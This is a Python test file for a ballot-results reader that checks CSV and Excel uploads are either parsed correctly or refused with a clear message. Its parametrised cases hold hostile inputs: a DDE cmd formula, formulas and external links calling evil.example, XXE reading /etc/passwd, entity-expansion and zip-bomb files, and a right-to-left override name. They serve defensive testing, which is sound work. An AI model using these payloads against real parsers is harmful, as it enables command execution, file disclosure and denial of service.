"""The units of a ballot come in files from anywhere: what is no plain table of them gets a sentence with its cell or line."""

from __future__ import annotations

import struct
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
from form_filling import unzipped, zipped
from openpyxl.workbook import Workbook

from assessment.ballot import reading
from assessment.ballot.entry import entered
from assessment.filled import package
from reports.ballot_record import MOST_UNITS

HEAD = ["Unit", "Could vote", "Papers returned", "Yes", "No"]


def workbook(*rows: list[object], change: Callable[[Workbook], object] = lambda _: None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (HEAD, *rows):
        sheet.append(row)
    change(book)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


GOOD = workbook(["North", 150, 120, 90, 30], ["South", 90, 70, 40, 30])
SHEET = "xl/worksheets/sheet1.xml"


def said(content: bytes, name: str = "units.xlsx") -> list[str]:
    found = reading.read_file(name, content)
    assert found.faults, found.units
    return [str(each) for each in found.faults]


def changed(part: str, change: Callable[[bytes], bytes], content: bytes = GOOD) -> bytes:
    parts = unzipped(content)
    return zipped(parts | {part: change(parts.get(part, b""))})


def test_merged_cells_name_the_line_that_is_left_without_a_name() -> None:
    content = workbook(["North", 150, 120, 90, 30], ["South", 90, 70, 40, 30], change=lambda book: book.active.merge_cells("A2:A3"))  # type: ignore[union-attr]
    assert said(content) == ["Line 3: The unit has no name of up to 300 characters. Write it first in the line."]


def test_a_title_that_is_merged_over_the_columns_is_named() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Results of the ballot"])
    sheet.merge_cells("A1:E1")
    for row in (HEAD, ["North", 150, 120, 90, 30]):
        sheet.append(row)
    out = BytesIO()
    book.save(out)
    assert said(out.getvalue())[0].startswith("Line 2: ")


@pytest.mark.parametrize("formula", ["=1+1", "=cmd|' /C calc'!A0", "='http://evil.example/[x.xlsx]S'!A1", "=WEBSERVICE(\"http://evil.example\")"])
def test_a_formula_is_refused_with_its_cell_and_never_read(formula: str) -> None:
    assert said(workbook(["North", 150, 120, formula, 30]))[0].startswith("Cell D2: ")
    assert said(workbook([formula, 150, 120, 90, 30]))[0].startswith("Cell A2: ")


def test_a_workbook_that_takes_content_from_elsewhere_tells_only_its_own_cells() -> None:
    link = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="http://127.0.0.1:9/x.xlsx" TargetMode="External"/>'
    content = changed("xl/_rels/workbook.xml.rels", lambda part: part.replace(b"</Relationships>", link + b"</Relationships>"))
    found = reading.read_file("units.xlsx", content)
    assert ([unit.label for unit in found.units], found.faults) == (["North", "South"], ())


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    assert "30 MB" in said(changed("xl/media/big.xml", lambda _: bytes(package.LARGEST_INSIDE)))[0]
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, part in unzipped(GOOD).items():
            archive.writestr(name, part)
        archive.writestr("xl/bomb.xml", bytes(3_000_000))
    content = bytearray(out.getvalue())
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    assert said(bytes(content))[0].startswith("The units: ")


@pytest.mark.parametrize(
    "evil",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
        b"<x>" * 500 + b"</x>" * 500,
        b"",
    ],
)
def test_xml_that_could_expand_or_reach_out_is_refused(evil: bytes) -> None:
    assert len(said(changed(SHEET, lambda _: evil))) == 1


def test_cells_far_away_do_not_fill_memory() -> None:
    far = b'<row r="1048576"><c r="XFD1048576"><v>7</v></c></row></sheetData>'
    assert said(changed(SHEET, lambda part: part.replace(b"</sheetData>", far)))


@pytest.mark.parametrize(
    ("content", "labels"),
    [
        ("Unit,Yes,No\nCaffi Môn,90,30\n".encode("utf-16"), ["Caffi Môn"]),
        ("Unit,Yes,No\nCaffi Môn,90,30\n".encode("utf-8-sig"), ["Caffi Môn"]),
        ("Unit,Yes,No\nCaffi Môn,90,30\n".encode("cp1252"), ["Caffi Môn"]),
        (b"Unit,Yes,No\rNorth,90,30\r", ["North"]),
        ("Unit,Yes,No\nNorth,90,30\n".encode("utf-16-le"), None),
        ("Unit,Yes,No\nNorth,90,30\n".encode("utf-32"), None),
        ("Unit,Yes,No\nNorth,90,30\n".encode("utf-16")[:-1], None),
        ("Unit,Yes,No\nNorth,90,30\n".encode("cp037"), None),
        (b"Unit,Yes,No\nN\x00orth,90,30\n", None),
        (b"\xff\xfe", []),
        (b"", []),
        (b'Unit,Yes,No\n"North,90,30\n' + b"x" * 200_000, None),
        (b'Unit,Yes,No\n"No\x0brth",90,30\n', None),
        (b"{}" * 1000, None),
        (b"%PDF-1.7\n%\xe2\xe3", None),
    ],
)
def test_a_csv_file_in_another_encoding_is_read_right_or_refused_with_a_sentence(content: bytes, labels: list[str] | None) -> None:
    found = reading.read_file("units.csv", content)
    if labels is None:
        made = entered({}, found)
        assert made.held is None
        assert all(str(each).strip() for each in made.faults)
    else:
        assert ([unit.label for unit in found.units], found.faults) == (labels, ())


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_five_thousand_units_are_refused_with_how_many_there_may_be(kind: str) -> None:
    rows: list[list[object]] = [[f"Unit {n}", 20, 20, 12, 8] for n in range(5000)]
    content = workbook(*rows) if kind == "xlsx" else ("\n".join(",".join(map(str, row)) for row in [HEAD, *rows])).encode()
    (fault,) = said(content, f"units.{kind}")
    assert str(MOST_UNITS) in fault


def test_more_than_a_file_may_have_is_refused_by_its_size() -> None:
    assert "1 MB" in said(b"a" * (reading.LARGEST + 1), "units.csv")[0]
    assert "5 MB" in said(b"PK\x03\x04" + bytes(package.LARGEST))[0]


def test_a_name_that_turns_the_direction_of_writing_is_refused() -> None:
    found = reading.read_text("Unit,Yes,No\nNor\u202eth,40,30")
    assert "cannot be printed" in str(found.faults[0])
